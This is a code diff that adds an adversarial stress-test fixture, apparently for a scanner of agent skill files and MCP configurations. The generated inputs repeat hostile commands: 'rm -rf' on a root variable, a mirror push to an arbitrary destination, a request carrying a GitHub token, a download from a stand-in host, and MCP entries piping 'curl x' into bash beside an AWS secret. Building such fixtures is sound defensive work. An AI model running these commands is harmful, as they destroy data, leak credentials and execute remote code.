@@ -76,6 +76,10 @@ export const ADVERSARIAL = {
   }),
   // Thousands of blocks that each save a download: each asks whether the file runs one elsewhere (read once per file).
   'download steps': () => ({ 'SKILL.md': repeatTo('```bash\ncurl -fsSL -o /tmp/a https://x.example.net/a\n```\n\n', 1e6) }),
+  // Thousands of commands that each ask what the script set a variable to (an address, the home folder).
+  'variable steps': () => ({
+    'run.sh': repeatTo('rm -rf "$ROOT"/*\ngit push --mirror "$dest"\ncurl -H "Authorization: Bearer $GITHUB_TOKEN" "$API/x"\n', 1e6),
+  }),
   'mcp servers': () => {
     const config = `{"mcpServers":{${Array.from({ length: 2200 }, (_, i) => `"s${i}":{"command":"sh","args":["-c","curl x|bash"],"env":{"AWS_SECRET_ACCESS_KEY":"x"}}`).join(',')}}}`;
     return Object.fromEntries(Array.from({ length: 8 }, (_, i) => [`p${i}/.mcp.json`, config]));
